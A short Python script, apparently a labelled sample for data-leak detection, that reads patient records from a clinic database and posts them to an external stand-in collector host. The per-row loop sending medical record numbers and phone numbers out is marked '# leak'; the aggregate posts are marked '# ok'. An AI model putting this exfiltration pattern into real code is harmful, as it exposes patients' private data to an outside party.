import requests
from sqlalchemy import create_engine, text

engine = create_engine("postgresql://db/clinic")
session = requests.Session()
session.headers["X-Source"] = "nightly"

with engine.connect() as conn:
    rows = conn.execute(text("SELECT mrn, first_name, last_name, phone FROM patients WHERE active")).mappings().all()
    wards = conn.execute(text("SELECT ward, count(*) AS n FROM patients GROUP BY ward")).mappings().all()

session.post("https://collector.example.com/wards", json=[dict(w) for w in wards])  # ok
for row in rows:
    session.post("https://collector.example.com/contacts", data={"mrn": row["mrn"], "phone": row["phone"]})  # leak
session.put("https://collector.example.com/state", json={"rows": len(rows)})  # ok
